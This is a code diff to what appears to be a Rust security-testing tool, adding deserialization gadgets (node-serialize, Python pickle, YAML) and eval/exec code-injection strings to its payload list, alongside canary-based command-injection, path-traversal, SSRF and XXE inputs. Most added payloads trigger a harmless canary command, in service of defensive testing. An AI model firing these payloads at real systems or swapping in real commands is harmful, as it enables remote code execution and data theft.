@@ -39,11 +39,16 @@ pub enum Family {
     Unicode,
     /// XML external entities.
     Xxe,
+    /// Serialised objects whose loading runs code: node-serialize functions, Python pickles
+    /// (raw and base64), YAML tags that call functions. Each gadget runs the canary command.
+    Deserialization,
+    /// Source code for `eval`/`exec`/`Function`: each runs the canary command.
+    Code,
 }
 
 impl Family {
     /// Every family, in a stable order.
-    pub const ALL: [Family; 14] = [
+    pub const ALL: [Family; 16] = [
         Family::Traversal,
         Family::EncodedTraversal,
         Family::Sql,
@@ -58,6 +63,8 @@ impl Family {
         Family::Numbers,
         Family::Unicode,
         Family::Xxe,
+        Family::Deserialization,
+        Family::Code,
     ];
 
     /// The family's payloads, as they would be typed into the field.
@@ -75,6 +82,9 @@ impl Family {
                 "a/b/../../../c",
                 "file\u{0}.jpg",
                 "/proc/self/environ",
+                // The canary file (see `runtime::canary`): reaching it is the finding.
+                "../../../../../../../../../../../../tmp/strider-canary/secret.txt",
+                "/tmp/strider-canary/secret.txt",
             ],
             Family::EncodedTraversal => &[
                 "%2e%2e%2f",
@@ -114,6 +124,14 @@ impl Family {
                 "\nid\n",
                 "-o /tmp/x",
                 "photo.jpg; rm -rf /tmp",
+                // The canary command (see `runtime::canary`): its running is the finding.
+                ";strider-canary cmd-semicolon",
+                "|strider-canary cmd-pipe",
+                "$(strider-canary cmd-subst)",
+                "`strider-canary cmd-backtick`",
+                "\nstrider-canary cmd-newline\n",
+                "x && strider-canary cmd-and",
+                "x' ; strider-canary cmd-quote ; '",
             ],
             Family::Template => &[
                 "{{7*7}}",
@@ -146,6 +164,10 @@ impl Family {
                 "http://0x7f000001/",
                 "gopher://127.0.0.1:6379/_INFO",
                 "http://attacker.example@169.254.169.254/",
+                // The canary listener and file (see `runtime::canary`).
+                "http://strider-canary.internal/ssrf-url",
+                "http://strider-canary.internal/latest/meta-data/ssrf-metadata",
+                "file:///tmp/strider-canary/secret.txt",
             ],
             Family::PrototypePollution => &[
                 "__proto__",
@@ -187,6 +209,19 @@ impl Family {
                 "山田 太郎 (やまだ たろう) 東京都渋谷区 \u{1f642}",
                 "Ωμέγα Ñandú 東京 \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} Łódź ☃",
             ],
+            Family::Deserialization => &[
+                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').execSync('strider-canary deser-node')}()\"}",
+                "_$$ND_FUNC$$_function(){require('child_process').execSync('strider-canary deser-node-bare')}()",
+                "Y3Bvc2l4CnN5c3RlbQooUydzdHJpZGVyLWNhbmFyeSBwaWNrbGUxJwp0Ui4=",
+                "cos\nsystem\n(S'strider-canary pickle2'\ntR.",
+                "!!python/object/apply:os.system [\"strider-canary deser-yaml\"]",
+            ],
+            Family::Code => &[
+                "__import__('os').system('strider-canary code-python')",
+                "require('child_process').execSync('strider-canary code-node')",
+                "1;require('child_process').execSync('strider-canary code-node-stmt')",
+                "');__import__('os').system('strider-canary code-python-quote');('",
+            ],
             Family::Xxe => &[
                 "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                 "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://169.254.169.254/\"> %p;]>",
@@ -212,6 +247,8 @@ impl Family {
             Family::Numbers => "numbers",
             Family::Unicode => "unicode",
             Family::Xxe => "xxe",
+            Family::Deserialization => "deserialization",
+            Family::Code => "code",
         }
     }
 }
